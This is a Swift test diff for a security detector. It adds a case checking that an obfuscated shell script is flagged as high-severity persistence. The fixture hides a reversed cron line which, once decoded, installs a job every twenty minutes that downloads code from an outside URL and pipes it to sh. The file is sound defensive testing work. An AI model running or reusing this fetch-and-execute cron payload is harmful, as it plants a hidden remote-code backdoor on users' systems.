@@ -843,3 +843,16 @@ extension ExfiltrationBehaviourTests {
     #expect(try findings("credential-store-read", Example(quiet, language: .shell)).isEmpty)
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test("A cron line written backwards and reversed at run time is a persisted payload")
+  func reversedCronLine() throws {
+    let script = "job=\"$(rev <<<'hs | txen/tnega/duolc.egairtgol//:sptth Ssf- lruc * * * * 02/*')\"\n( crontab -l 2>/dev/null; echo \"$job\" ) | crontab - 2>/dev/null\n"
+    let hit = try #require(try findings("persistence-mechanism", Example(script, language: .shell)).first)
+    #expect(hit.chain == .persistence)
+    #expect(hit.severity == .high)
+    // The same job read forwards from a plain literal that fetches nothing stays medium.
+    let plain = "job='*/20 * * * * /usr/local/bin/rotate-logs'\n( crontab -l; echo \"$job\" ) | crontab -\n"
+    #expect(try findings("persistence-mechanism", Example(plain, language: .shell)).first?.chain == nil)
+  }
+}
